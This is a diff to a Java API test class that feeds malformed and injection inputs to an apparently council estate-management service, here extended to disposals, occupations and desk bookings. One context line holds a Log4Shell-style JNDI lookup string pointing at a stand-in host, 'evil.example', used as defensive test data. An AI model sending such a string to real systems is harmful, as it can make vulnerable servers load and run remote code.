@@ -53,7 +53,9 @@ class BadInputTest {
             "${jndi:ldap://evil.example/a}");
 
     static final String[] TABLES = {"partner", "asset", "asset_status_change", "project", "project_partner",
-            "project_asset", "project_milestone", "project_stage_change", "brownfield_site"};
+            "project_asset", "project_milestone", "project_stage_change", "brownfield_site", "disposal",
+            "disposal_interest", "disposal_homes_delivery", "occupation", "workspace",
+            "workspace_zone", "workspace_desk", "workspace_allocation", "desk_booking", "audit_event"};
 
     static final ObjectMapper JSON = new ObjectMapper();
 
@@ -76,6 +78,9 @@ class BadInputTest {
                     : " = " + abbreviate(String.valueOf(value)));
         }
     }
+
+    /** Each bad-input workspace's first desk, by the token of the case that set it up. */
+    static final Map<String, String> WORKSPACE_DESKS = new java.util.concurrent.ConcurrentHashMap<>();
 
     static final List<Op> OPS = List.of(
             new Op("createPartner", "pmo.admin", "POST", t -> new Target("/partners", null, null),
@@ -122,7 +127,90 @@ class BadInputTest {
                     List.of("boundary.type")),
             new Op("setBrownfieldSiteBoundary", "maidstone.editor", "PUT", t -> brownfieldBoundary(t),
                     t -> new HashMap<>(BoundaryFixtures.hectare()),
-                    List.of("type")));
+                    List.of("type")),
+            // Disposals (#17): the declaration's asset is the target's, so the body looks it up by the token.
+            new Op("declareDisposal", "maidstone.editor", "POST", t -> surplusAsset(t),
+                    t -> disposalDeclaration(BadInputTest.SURPLUS_ASSETS.getOrDefault(t, "7b0c2b7e-5d1a-4c8e-9a40-2b8f6f1d7c11")),
+                    List.of("offerTypes[0]")),
+            new Op("registerDisposalInterest", "dover.editor", "POST", t -> disposal(t, "/interests", false),
+                    t -> disposalInterest(),
+                    List.of("intendedUse")),
+            new Op("agreeDisposalTransfer", "maidstone.editor", "POST", t -> disposal(t, "/transfer-agreement", true),
+                    t -> new HashMap<>(Map.of("interestId", BadInputTest.DOVER_INTERESTS.getOrDefault(t,
+                            "7b0c2b7e-5d1a-4c8e-9a40-2b8f6f1d7c11"))),
+                    List.of()),
+            new Op("withdrawDisposal", "maidstone.editor", "POST", t -> disposal(t, "/withdrawal", false),
+                    t -> new HashMap<>(Map.of("reason", "Retained " + t)),
+                    List.of()),
+            new Op("completeDisposal", "maidstone.editor", "POST", t -> agreedDisposal(t),
+                    t -> new HashMap<>(Map.of("completedOn", LocalDate.now(org.estatehub.common.time.PartnershipCalendar.ZONE)
+                            .toString(), "capitalReceipt", Map.of("amount", "125000.50", "currency", "GBP"),
+                            "hectaresReleased", 1.5, "housingCapacity", 12)),
+                    List.of("capitalReceipt.currency")),
+            // A year's homes on a sale's released land, recorded by the former owner: a first record, no If-Match.
+            new Op("recordHomesDelivered", "maidstone.editor", "PUT", t -> homesDelivered(t),
+                    t -> new HashMap<>(Map.of("homesPermitted", 12, "homesStarted", 6, "homesCompleted", 1)),
+                    List.of()),
+            new Op("createOccupation", "maidstone.editor", "POST", t -> asset(t, "/occupations"),
+                    t -> occupationBody(t), List.of("basis", "yearlyRent.currency")),
+            new Op("updateOccupation", "maidstone.editor", "PUT", t -> occupation(t),
+                    t -> occupationBody(t), List.of("basis", "yearlyServiceCharge.currency")),
+            new Op("createWorkspace", "maidstone.editor", "POST", t -> asset(t, "/workspaces"),
+                    t -> new HashMap<>(Map.of("name", "Hub " + t, "zones", List.of(Map.of("name", "Open " + t, "desks", 3)))),
+                    List.of()),
+            new Op("setWorkspaceAllocation", "maidstone.editor", "PUT", t -> workspace(t, "/allocations/dover"),
+                    t -> new HashMap<>(Map.of("desks", 2)), List.of()),
+            new Op("bookDesk", "maidstone.editor", "POST", t -> workspace(t, "/bookings"),
+                    t -> new HashMap<>(Map.of("deskId", WORKSPACE_DESKS.getOrDefault(t,
+                            "00000000-0000-0000-0000-000000000000"), "on", LocalDate.now().plusDays(9).toString(), "slot", "PM")),
+                    List.of("slot")),
+            new Op("cancelDeskBooking", "maidstone.editor", "POST", t -> booking(t),
+                    t -> new HashMap<>(Map.of("reason", "Not needed " + t)), List.of()));
+
+
+    /** The asset each declaration case's target registered, by the case's token. */
+    static final Map<String, String> SURPLUS_ASSETS = new java.util.concurrent.ConcurrentHashMap<>();
+
+    /** Dover's interest in each agreement case's disposal, by the case's token. */
+    static final Map<String, String> DOVER_INTERESTS = new java.util.concurrent.ConcurrentHashMap<>();
+
+    static Target surplusAsset(String t) {
+        String id = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input surplus " + t, 51.27, 0.52));
+        SURPLUS_ASSETS.put(t, id);
+        return new Target("/disposals", null, "/assets/" + id);
+    }
+
+    static Map<String, Object> disposalDeclaration(String assetId) {
+        return new HashMap<>(Map.of("assetId", assetId, "reason", "Surplus", "availableFrom", "2027-04-01",
+                "offerTypes", List.of("FREEHOLD_SALE", "LICENCE"), "guidePrice", Map.of("amount", "850000.00",
+                        "currency", "GBP"), "siteAreaHectares", 1.25, "knownConstraints", "Flood zone 2",
+                "contact", Map.of("name", "Estates", "email", "estates@maidstone.gov.uk", "phone", "01622 602000")));
+    }
+
+    static Map<String, Object> disposalInterest() {
+        return new HashMap<>(Map.of("intendedUse", "HOUSING", "proposal", "Key-worker homes", "timing", "2028",
+                "fundingSource", "BLRF", "contact", Map.of("name", "Dover estates", "email", "estates@dover.gov.uk")));
+    }
+
+    /** A fresh OFFERED disposal of Maidstone's, with Dover's interest in it when `withInterest`. */
+    static Target disposal(String t, String suffix, boolean withInterest) {
+        String asset = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input disposal " + t, 51.27, 0.52));
+        String id = Api.as("maidstone.editor").body(disposalDeclaration(asset)).post("/disposals").then().statusCode(201)
+                .extract().path("id");
+        if (withInterest) {
+            DOVER_INTERESTS.put(t, Api.as("dover.editor").body(disposalInterest()).post("/disposals/" + id + "/interests")
+                    .then().statusCode(201).extract().path("id"));
+        }
+        return new Target("/disposals/" + id + suffix, suffix.equals("/interests") ? null : "\"0\"", "/disposals/" + id);
+    }
+
+    /** A disposal with a transfer to Dover agreed, ready to complete. */
+    static Target agreedDisposal(String t) {
+        Target offered = disposal(t, "", true);
+        Api.as("maidstone.editor").header("If-Match", "\"0\"").body(Map.of("interestId", DOVER_INTERESTS.get(t)))
+                .post(offered.path() + "/transfer-agreement").then().statusCode(200);
+        return new Target(offered.path() + "/completion", "\"1\"", offered.path());
+    }
 
     static Stream<Case> cases() {
         List<Case> cases = new ArrayList<>();
@@ -186,7 +274,9 @@ class BadInputTest {
 
         // A site's links are both optional: {} is a valid request that removes them.
         boolean mayBeAccepted = c.kind().equals("injection") || c.kind().startsWith("required field missing or optional")
-                || c.kind().equals("every field missing") && c.op().name().equals("updateBrownfieldSiteLinks");
+                || c.kind().equals("every field missing") && c.op().name().equals("updateBrownfieldSiteLinks")
+                // A cancellation's reason is optional.
+                || c.kind().equals("every field missing") && c.op().name().equals("cancelDeskBooking");
         if (status < 300 && mayBeAccepted) {
             if (c.kind().equals("injection")) {
                 // Accepted strings are data: stored and answered exactly as sent.
@@ -261,6 +351,7 @@ class BadInputTest {
             "/projects/outcomes?localAuthority=E0700011", "/projects/outcomes?localAuthority=S99999999",
             "/dashboards/assets?localAuthority=E07999999", "/dashboards/assets?localAuthority=e07000110",
             "/dashboards/pipeline?localAuthority=S99999999", "/dashboards/pipeline?localAuthority=E0700011",
+            "/dashboards/land-release?localAuthority=S99999999", "/dashboards/land-release?localAuthority=e07000110",
             "/data-quality?localAuthority=E07999999", "/data-quality?localAuthority=e07000110",
             "/local-authorities?county=E07999999", "/local-authorities?county=E07000110",
             "/local-authorities?county=kent", "/local-authorities?type=PIRATES", "/local-authorities?current=maybe",
@@ -329,7 +420,9 @@ class BadInputTest {
     /**
      * GET /assets's point, radius and sort rules the contract cannot express (#16): a point needs both
      * coordinates, and radiusM (a radius search) or sort=distance (the nearest first); sort=distance needs
-     * a point. Each is a 400 naming exactly the listed parameters, in that order.
+     * a point; total is exact or bounded, nothing else (the contract's enum, checked first by ParameterRules,
+     * so its 400 names total alone). Each is a 400 naming exactly the listed parameters,
+     * in that order.
      */
     @ParameterizedTest(name = "GET {0}")
     @org.junit.jupiter.params.provider.CsvSource(delimiter = ' ', value = {
@@ -340,7 +433,11 @@ class BadInputTest {
             "/assets?nearLon=0.52&radiusM=100 radiusM",
             "/assets?radiusM=100&sort=distance radiusM,sort",
             "/assets?sort=distance sort",
-            "/assets?bbox=0.6,51.2,0.5,51.3&nearLat=51.27&nearLon=0.52 bbox,radiusM"})
+            "/assets?bbox=0.6,51.2,0.5,51.3&nearLat=51.27&nearLon=0.52 bbox,radiusM",
+            "/assets?total=EXACT total",
+            "/assets?total=approximate total",
+            "/assets?nearLat=51.27&nearLon=0.52&sort=distance&total= total",
+            "/assets?sort=distance&total=none total"})
     void badAssetPointCombinations(String pathAndQuery, String fields) {
         Map<String, Long> before = counts();
         Response r = Api.badRequestAs("maidstone.editor").urlEncodingEnabled(false).get(pathAndQuery);
@@ -356,7 +453,7 @@ class BadInputTest {
         Map<String, List<String>> params = new HashMap<>(Map.of(
                 "/partners", List.of("type", "limit", "offset"),
                 "/assets", List.of("partner", "localAuthority", "status", "type", "q", "bbox", "nearLat", "nearLon", "radiusM",
-                        "includeDisposed", "sort", "limit", "offset"),
+                        "includeDisposed", "sort", "total", "limit", "offset"),
                 "/assets/co-location", List.of("distanceM", "localAuthority", "minPartners", "bbox", "limit", "offset"),
                 "/assets/export", List.of("layout", "partner", "localAuthority", "status", "includeDisposed"),
                 "/projects", List.of("stage", "type", "localAuthority", "lead", "partner", "programme", "q", "limit", "offset"),
@@ -369,7 +466,12 @@ class BadInputTest {
         params.put("/brownfield-sites", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus",
                 "deliverable", "q", "bbox", "limit", "offset"));
         params.put("/awards/export", List.of("programme", "roundId", "format"));
+        params.put("/dashboards/land-release", List.of("localAuthority"));
+        params.put("/workspaces", List.of("asset", "limit", "offset"));
         params.put("/brownfield-sites/export", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus"));
+        params.put("/disposals", List.of("status", "ownerPartnerId", "localAuthority", "windowOpen", "limit", "offset"));
+        params.put("/disposals/export", List.of("status", "ownerPartnerId", "localAuthority", "windowOpen"));
+        params.put("/disposals/00000000-0000-0000-0000-000000000000/interests", List.of("limit", "offset"));
         params.forEach((path, names) -> {
             for (String name : names) {
                 for (String value : INJECTIONS) {
@@ -435,6 +537,30 @@ class BadInputTest {
             paths.add("PUT /brownfield-sites/" + v + "/links");
             paths.add("PUT /brownfield-sites/" + v + "/boundary");
             paths.add("DELETE /brownfield-sites/" + v + "/boundary");
+            paths.add("GET /disposals/" + v);
+            paths.add("GET /disposals/" + v + "/history");
+            paths.add("GET /disposals/" + v + "/interests");
+            paths.add("POST /disposals/" + v + "/interests");
+            paths.add("POST /disposals/" + v + "/withdrawal");
+            paths.add("POST /disposals/" + v + "/open-market-release");
+            paths.add("GET /disposals/00000000-0000-0000-0000-000000000000/interests/" + v);
+            paths.add("POST /disposals/00000000-0000-0000-0000-000000000000/interests/" + v + "/withdrawal");
+            paths.add("GET /disposals/" + v + "/homes-delivered");
+            paths.add("PUT /disposals/" + v + "/homes-delivered/2024-25");
+            paths.add("PUT /disposals/00000000-0000-0000-0000-000000000000/homes-delivered/" + v);
+            paths.add("GET /assets/" + v + "/occupations");
+            paths.add("POST /assets/" + v + "/occupations");
+            paths.add("GET /occupations/" + v);
+            paths.add("PUT /occupations/" + v);
+            paths.add("GET /occupations/" + v + "/history");
+            paths.add("POST /assets/" + v + "/workspaces");
+            paths.add("GET /workspaces/" + v);
+            paths.add("PUT /workspaces/" + v + "/allocations/dover");
+            paths.add("PUT /workspaces/00000000-0000-0000-0000-000000000000/allocations/" + v);
+            paths.add("GET /workspaces/" + v + "/bookings");
+            paths.add("POST /workspaces/" + v + "/bookings");
+            paths.add("POST /bookings/" + v + "/cancellation");
+            paths.add("GET /workspaces/" + v + "/use?from=2026-01-01&to=2026-01-31");
             paths.add("GET /tiles/assets/" + v + "/0/0.mvt");
             paths.add("GET /tiles/assets/0/" + v + "/0.mvt");
             paths.add("GET /tiles/assets/0/0/" + v + ".mvt");
@@ -590,25 +716,15 @@ class BadInputTest {
     @ParameterizedTest(name = "65 MB body: {0}")
     @MethodSource("bodyOperations")
     void oversizedBodies(String name, String method, String contentType) throws Exception {
+        // The JSON operations are the OPS table's own (its target and its user), so that an operation added
+        // to the table is tested here too; only the two CSV imports are not in the table.
+        Op op = OPS.stream().filter(o -> o.name().equals(name)).findFirst().orElse(null);
         Target target = switch (name) {
-            case "createPartner" -> new Target("/partners", null, null);
-            case "updatePartner" -> partner(AssetFixtures.token());
-            case "createAsset" -> new Target("/assets", null, null);
             case "importAssets" -> new Target("/assets/import", null, null);
-            case "updateAsset" -> asset(AssetFixtures.token(), "");
-            case "disposeAsset" -> asset(AssetFixtures.token(), "/disposal");
-            case "createProject" -> new Target("/projects", null, null);
-            case "updateProject" -> project(AssetFixtures.token(), "");
-            case "changeProjectStage" -> project(AssetFixtures.token(), "/stage-changes");
-            case "addMilestone" -> project(AssetFixtures.token(), "/milestones");
-            case "updateMilestone" -> milestone(AssetFixtures.token());
-            case "updateBrownfieldSiteLinks" -> brownfieldSite(AssetFixtures.token());
-            case "createAsset+boundary" -> new Target("/assets", null, null);
-            case "setBrownfieldSiteBoundary" -> brownfieldBoundary(AssetFixtures.token());
             case "importBrownfieldSites" -> new Target("/brownfield-sites/import", null, null);
-            default -> throw new AssertionError(name);
+            default -> op.target().apply(AssetFixtures.token());
         };
-        String user = name.endsWith("Partner") ? "pmo.admin" : "maidstone.editor";
+        String user = op == null ? "maidstone.editor" : op.user();
         Map<String, Long> before = counts();
         String recordBefore = target.readBack() == null ? null : Api.as("pmo.admin").get(target.readBack()).asString();
         long declared = 65L * 1024 * 1024;
@@ -678,6 +794,48 @@ class BadInputTest {
         return new Target("/projects/" + id + "/milestones/" + milestone, "\"0\"", "/projects/" + id);
     }
 
+    static Map<String, Object> occupationBody(String t) {
+        Map<String, Object> o = new HashMap<>();
+        o.put("occupierName", "Tenant " + t);
+        o.put("basis", "LEASE");
+        o.put("areaM2", 100.5);
+        o.put("desks", 8);
+        o.put("yearlyRent", Map.of("amount", "1200.00", "currency", "GBP"));
+        o.put("yearlyServiceCharge", Map.of("amount", "300.00", "currency", "GBP"));
+        o.put("startsOn", "2024-01-01");
+        o.put("endsOn", "2030-12-31");
+        o.put("breakOn", "2027-12-31");
+        o.put("rentReviewOn", "2026-01-01");
+        o.put("landlordName", "Landlord " + t);
+        return o;
+    }
+
+    static Target occupation(String t) {
+        Target asset = asset(t, "/occupations");
+        String id = Api.as("maidstone.editor").body(occupationBody(t)).post(asset.path()).then().statusCode(201)
+                .extract().path("id");
+        return new Target("/occupations/" + id, "\"0\"", "/occupations/" + id);
+    }
+
+    /** A fresh workspace of Maidstone's in which Maidstone holds two desks. */
+    static Target workspace(String t, String suffix) {
+        Target asset = asset(t, "/workspaces");
+        var ws = Api.as("maidstone.editor").body(Map.of("name", "Hub", "zones", List.of(Map.of("name", "Open", "desks", 4))))
+                .post(asset.path()).then().statusCode(201).extract();
+        String id = ws.path("id");
+        WORKSPACE_DESKS.put(t, ws.path("zones[0].desks[0].id"));
+        Api.as("maidstone.editor").body(Map.of("desks", 2)).put("/workspaces/" + id + "/allocations/maidstone")
+                .then().statusCode(200);
+        return new Target("/workspaces/" + id + suffix, null, "/workspaces/" + id);
+    }
+
+    static Target booking(String t) {
+        Target ws = workspace(t, "/bookings");
+        String id = Api.as("maidstone.editor").body(Map.of("deskId", WORKSPACE_DESKS.get(t), "on",
+                LocalDate.now().plusDays(9).toString(), "slot", "AM")).post(ws.path()).then().statusCode(201).extract().path("id");
+        return new Target("/bookings/" + id + "/cancellation", null, ws.readBack());
+    }
+
     static Target brownfieldSite(String t) {
         String id = org.estatehub.brownfield.BrownfieldFixtures.site("maidstone", t);
         return new Target("/brownfield-sites/" + id + "/links", "\"0\"", "/brownfield-sites/" + id);
@@ -686,6 +844,15 @@ class BadInputTest {
     static Target brownfieldBoundary(String t) {
         String id = org.estatehub.brownfield.BrownfieldFixtures.site("maidstone", t);
         return new Target("/brownfield-sites/" + id + "/boundary", "\"0\"", "/brownfield-sites/" + id);
+    }
+
+    /** A year of homes on a fresh sale by Maidstone (the disposal written as a fixture: see DisposalFixtures). */
+    static Target homesDelivered(String t) {
+        String asset = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input sale " + t, 51.27, 0.52));
+        var disposal = org.estatehub.testing.DisposalFixtures.insert(org.estatehub.testing.DisposalFixtures
+                .of(asset, "maidstone", "SOLD").completed(LocalDate.of(2024, 6, 28), "100.00", "0.1000", 12));
+        return new Target("/disposals/" + disposal + "/homes-delivered/2024-25", null,
+                "/disposals/" + disposal + "/homes-delivered");
     }
 
     /** A demo project's id, as demo/projects.sql derives it: md5('demo-project:' || name) as a UUID. */
